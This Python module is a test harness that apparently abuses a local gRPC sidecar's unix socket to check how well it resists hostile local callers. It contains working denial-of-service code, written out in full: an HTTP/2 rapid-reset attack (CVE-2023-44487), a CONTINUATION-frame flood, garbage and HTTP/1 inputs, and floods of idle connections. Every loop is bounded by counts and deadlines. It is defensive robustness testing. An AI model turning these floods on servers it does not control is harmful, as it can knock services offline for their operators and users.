"""Socket-level abuse of a sidecar's unix socket, the way a hostile local process would try it.

Each attack opens raw connections (no gRPC client library), sends bytes a broken or hostile
caller would send, and reports what it did. Every loop is bounded by a count and a deadline,
and a reader drains what the server writes back (answering its SETTINGS and PINGs, as any
HTTP/2 peer must), so the server is never blocked on a full socket buffer by us.

HTTP/2 frames are written with hyperframe and the header blocks with hpack (both come with
the `h2` package: `pip install 'prefix-sidecar[test]'`): the attacks need frames that no
well-behaved HTTP/2 library would send, such as a HEADERS frame without END_HEADERS followed
by CONTINUATION frames forever.
"""

from __future__ import annotations

import asyncio
import contextlib
import os
import random
import struct
import time
from collections.abc import Callable, Coroutine
from dataclasses import dataclass, field
from typing import Any

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# Frame types and flags (RFC 9113 section 6).
HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0x1, 0x3, 0x4, 0x6, 0x7, 0x9
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
CANCEL = 0x8
READ_CHUNK = 64 * 1024


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    """One HTTP/2 frame: 24-bit length, type, flags, 31-bit stream id, payload."""
    return (
        struct.pack(">I", len(payload))[1:]
        + struct.pack(">BBI", kind, flags, stream_id)
        + (payload)
    )


def header_block(path: str = "/sidecar.v1.Router/Route", extra: int = 0) -> bytes:
    """An HPACK block for a gRPC request; `extra` bytes of padding metadata on top."""
    from hpack import Encoder

    headers = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "localhost"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]
    if extra:
        headers.append(("x-attack", "a" * extra))
    # "Never indexed" literals leave the server's dynamic table alone, so the same block can
    # be replayed on every stream.
    return bytes(Encoder().encode([(n, v, True) for n, v in headers], huffman=False))


@dataclass
class AbuseResult:
    """What one attack did and what the server did back."""

    name: str
    connections: int = 0
    bytes_sent: int = 0
    streams: int = 0
    goaways: int = 0
    refused_streams: int = 0
    closed_by_server: int = 0
    errors: list[str] = field(default_factory=list)
    seconds: float = 0.0

    def summary(self) -> dict[str, Any]:
        return {
            "connections": self.connections,
            "bytes_sent": self.bytes_sent,
            "streams": self.streams,
            "goaways": self.goaways,
            "refused_streams": self.refused_streams,
            "closed_by_server": self.closed_by_server,
            "errors": self.errors[:20],
            "seconds": round(self.seconds, 2),
        }


class _H2Drain:
    """Reads what the server sends: answers SETTINGS and PING (so the server never waits on
    us), counts GOAWAY and RST_STREAM(REFUSED_STREAM), stops at EOF. Linear in bytes."""

    def __init__(
        self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, result: AbuseResult
    ) -> None:
        self.reader, self.writer, self.result = reader, writer, result
        self.closed = asyncio.Event()

    async def run(self) -> None:
        buffer = bytearray()
        try:
            while True:
                data = await self.reader.read(READ_CHUNK)
                if not data:
                    break
                buffer += data
                offset = 0
                while len(buffer) - offset >= 9:
                    length = int.from_bytes(buffer[offset : offset + 3], "big")
                    if len(buffer) - offset < 9 + length:
                        break
                    kind, flags = buffer[offset + 3], buffer[offset + 4]
                    payload = bytes(buffer[offset + 9 : offset + 9 + length])
                    offset += 9 + length
                    self._on_frame(kind, flags, payload)
                del buffer[:offset]  # one cut per read: amortised linear
        except (ConnectionError, OSError):
            pass
        finally:
            self.result.closed_by_server += 1
            self.closed.set()

    def _on_frame(self, kind: int, flags: int, payload: bytes) -> None:
        if kind == SETTINGS and not flags & ACK:
            self.writer.write(frame(SETTINGS, ACK, 0))
        elif kind == PING and not flags & ACK:
            self.writer.write(frame(PING, ACK, 0, payload))
        elif kind == GOAWAY:
            self.result.goaways += 1
        elif kind == RST_STREAM and payload[-4:] == b"\x00\x00\x00\x07":
            self.result.refused_streams += 1


async def _open(socket_path: str, result: AbuseResult) -> tuple[Any, Any]:
    reader, writer = await asyncio.open_unix_connection(socket_path, limit=READ_CHUNK)
    result.connections += 1
    return reader, writer


async def _close(writer: asyncio.StreamWriter) -> None:
    writer.close()
    with contextlib.suppress(ConnectionError, OSError, TimeoutError):
        await asyncio.wait_for(writer.wait_closed(), 2.0)


async def _send(writer: asyncio.StreamWriter, data: bytes, result: AbuseResult) -> None:
    writer.write(data)
    await writer.drain()
    result.bytes_sent += len(data)


# --- the attacks -----------------------------------------------------------------------------


async def garbage(
    socket_path: str, connections: int = 20, size: int = 64 * 1024, seed: int = 1
) -> AbuseResult:
    """Random bytes instead of an HTTP/2 preface, on `connections` connections at once."""
    result = AbuseResult("garbage")
    rng = random.Random(seed)

    return await _send_then_await_hangup(
        socket_path, result, connections, lambda: rng.randbytes(size)
    )


async def http1(socket_path: str, connections: int = 20) -> AbuseResult:
    """A plain HTTP/1.1 request (what curl --unix-socket sends), many times at once."""
    result = AbuseResult("http1")
    request = (
        b"POST /sidecar.v1.Router/Route HTTP/1.1\r\nHost: localhost\r\n"
        b"Content-Type: application/json\r\nContent-Length: 2\r\n\r\n{}"
    )

    return await _send_then_await_hangup(socket_path, result, connections, lambda: request)


async def _send_then_await_hangup(
    socket_path: str, result: AbuseResult, connections: int, payload: Callable[[], bytes]
) -> AbuseResult:
    """On `connections` connections at once: send `payload()`, then wait for the server to
    hang up on its own (a hang-up while sending counts too)."""

    async def one() -> None:
        reader, writer = await _open(socket_path, result)
        try:
            await _send(writer, payload(), result)
            await _await_hangup(reader, result)
        except (ConnectionError, OSError):
            result.closed_by_server += 1
        finally:
            await _close(writer)

    return await _all_at_once(result, connections, one)


async def _all_at_once(
    result: AbuseResult, connections: int, one: Callable[[], Coroutine[Any, Any, None]]
) -> AbuseResult:
    """Run `one` `connections` times at once and record how long they took in `result`."""
    started = time.monotonic()
    await asyncio.gather(*(one() for _ in range(connections)))
    result.seconds = time.monotonic() - started
    return result


async def _open_draining(
    socket_path: str, result: AbuseResult
) -> tuple[asyncio.StreamWriter, _H2Drain, asyncio.Task[None]]:
    """An HTTP/2 connection with its drain task running (see _H2Drain): its writer, the
    drain and the task; close it with _close_draining."""
    reader, writer = await _open(socket_path, result)
    drain = _H2Drain(reader, writer, result)
    return writer, drain, asyncio.create_task(drain.run())


async def _close_draining(writer: asyncio.StreamWriter, draining: asyncio.Task[None]) -> None:
    """Close an HTTP/2 connection and give its drain task 2 s to see the end."""
    await _close(writer)
    with contextlib.suppress(TimeoutError):
        await asyncio.wait_for(draining, 2.0)
    draining.cancel()


async def _await_hangup(reader: asyncio.StreamReader, result: AbuseResult) -> None:
    """Wait up to 5 s for the server to close the connection (EOF or reset)."""
    try:
        while await asyncio.wait_for(reader.read(READ_CHUNK), 5.0):
            pass
        result.closed_by_server += 1
    except (ConnectionError, OSError):
        result.closed_by_server += 1
    except TimeoutError:
        result.errors.append("still open after 5 s")


async def rapid_reset(
    socket_path: str,
    streams_per_connection: int = 20_000,
    rounds: int = 5,
    connections_per_round: int = 2,
    batch: int = 500,
    deadline_s: float = 60.0,
) -> AbuseResult:
    """HTTP/2 rapid reset (CVE-2023-44487): HEADERS then RST_STREAM(CANCEL) at once, for
    `streams_per_connection` streams per connection, in rounds on new connections."""
    result = AbuseResult("rapid_reset")
    block = header_block()
    end = time.monotonic() + deadline_s

    async def one() -> None:
        writer, drain, draining = await _open_draining(socket_path, result)
        try:
            await _send(writer, PREFACE + frame(SETTINGS, 0, 0), result)
            stream_id = 1
            for start in range(0, streams_per_connection, batch):
                if drain.closed.is_set() or time.monotonic() > end:
                    break
                count = min(batch, streams_per_connection - start)
                parts = []
                for _ in range(count):
                    parts.append(frame(HEADERS, END_HEADERS, stream_id, block))
                    parts.append(frame(RST_STREAM, 0, stream_id, CANCEL.to_bytes(4, "big")))
                    stream_id += 2
                await _send(writer, b"".join(parts), result)
                result.streams += count
        except (ConnectionError, OSError) as exc:
            result.errors.append(type(exc).__name__)
        finally:
            await _close_draining(writer, draining)

    started = time.monotonic()
    for _ in range(rounds):
        if time.monotonic() > end:
            break
        await asyncio.gather(*(one() for _ in range(connections_per_round)))
    result.seconds = time.monotonic() - started
    return result


async def continuation_flood(
    socket_path: str,
    connections: int = 4,
    frame_size: int = 16 * 1024,
    max_bytes_per_connection: int = 64 * 1024 * 1024,
    deadline_s: float = 10.0,
) -> AbuseResult:
    """HEADERS without END_HEADERS, then CONTINUATION frames (never END_HEADERS) until the
    server hangs up, `max_bytes_per_connection` are sent, or the deadline passes."""
    result = AbuseResult("continuation_flood")
    block = header_block()
    # Each CONTINUATION adds a literal header to the never-ending block: the server must cap
    # the block, not buffer it.
    filler = frame(CONTINUATION, 0, 1, b"\x00\x01x" + _hpack_len(frame_size) + b"a" * frame_size)
    end = time.monotonic() + deadline_s

    async def one() -> None:
        writer, drain, draining = await _open_draining(socket_path, result)
        try:
            await _send(
                writer, PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, 0, 1, block), result
            )
            result.streams += 1
            sent = 0
            while sent < max_bytes_per_connection and time.monotonic() < end:
                if drain.closed.is_set():
                    break
                await _send(writer, filler * 16, result)
                sent += len(filler) * 16
        except (ConnectionError, OSError) as exc:
            result.errors.append(type(exc).__name__)
        finally:
            await _close_draining(writer, draining)

    return await _all_at_once(result, connections, one)


def _hpack_len(length: int) -> bytes:
    """An HPACK string length (7-bit prefix integer, no Huffman)."""
    if length < 127:
        return bytes([length])
    out = bytearray([127])
    length -= 127
    while length >= 128:
        out.append(length % 128 + 128)
        length //= 128
    out.append(length)
    return bytes(out)


async def idle_connections(
    socket_path: str, connections: int = 500, hold_s: float = 5.0
) -> AbuseResult:
    """Many connections that never send a preface, held open for `hold_s`."""
    result = AbuseResult("idle_connections")
    writers: list[asyncio.StreamWriter] = []
    started = time.monotonic()
    try:
        for _ in range(connections):
            try:
                _reader, writer = await _open(socket_path, result)
            except (ConnectionError, OSError) as exc:
                result.errors.append(type(exc).__name__)
                break
            writers.append(writer)
        await asyncio.sleep(hold_s)
        result.closed_by_server = sum(1 for w in writers if w.transport.is_closing())
    finally:
        await asyncio.gather(*(_close(w) for w in writers))
    result.seconds = time.monotonic() - started
    return result


def fd_limit_room(wanted: int) -> int:
    """How many sockets this process may open for an attack: leave 64 fds of headroom."""
    import resource

    soft, _hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    used = len(os.listdir("/proc/self/fd"))
    return max(0, min(wanted, soft - used - 64))


async def stream_callers(
    target: str, prompt: str, count: int = 8, seconds: float = 5.0
) -> AbuseResult:
    """`count` callers that each read one Complete stream (routed by `prompt`) for up to
    `seconds`; `errors` lists the statuses they ended with, `streams` the chunks read."""
    import grpc

    from prefix_sidecar.v1 import router_pb2, router_pb2_grpc

    result = AbuseResult("stream_callers")
    end = time.monotonic() + seconds

    async def one(stub: Any) -> None:
        request = router_pb2.CompleteRequest(input=prompt, max_tokens=0)
        call = stub.Complete(request, timeout=seconds + 5)
        try:
            async for _chunk in call:
                result.streams += 1
                if time.monotonic() > end:
                    call.cancel()
                    break
            result.errors.append("OK")
        except grpc.aio.AioRpcError as exc:
            result.errors.append(exc.code().name)

    started = time.monotonic()
    async with grpc.aio.insecure_channel(
        target, options=[("grpc.max_receive_message_length", 64 * 1024 * 1024)]
    ) as channel:
        stub = router_pb2_grpc.RouterStub(channel)
        await asyncio.gather(*(one(stub) for _ in range(count)))
    result.connections = 1
    result.seconds = time.monotonic() - started
    return result


def main(argv: list[str] | None = None) -> int:
    """`python -m prefix_sidecar_tools.attack.abuse NAME SOCKET [options as JSON]`: run one
    attack in its own process (so its CPU is not the probe's) and print its result as one JSON
    line."""
    import json
    import sys

    args = sys.argv[1:] if argv is None else argv
    name, socket_path = args[0], args[1]
    options: dict[str, Any] = json.loads(args[2]) if len(args) > 2 else {}
    attacks: dict[str, Callable[..., Coroutine[Any, Any, AbuseResult]]] = {
        "garbage": garbage,
        "http1": http1,
        "rapid_reset": rapid_reset,
        "continuation_flood": continuation_flood,
        "idle_connections": idle_connections,
    }
    if name == "stream_callers":
        result = asyncio.run(stream_callers(f"unix://{socket_path}", **options))
    else:
        result = asyncio.run(attacks[name](socket_path, **options))
    print(json.dumps(result.summary()), flush=True)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
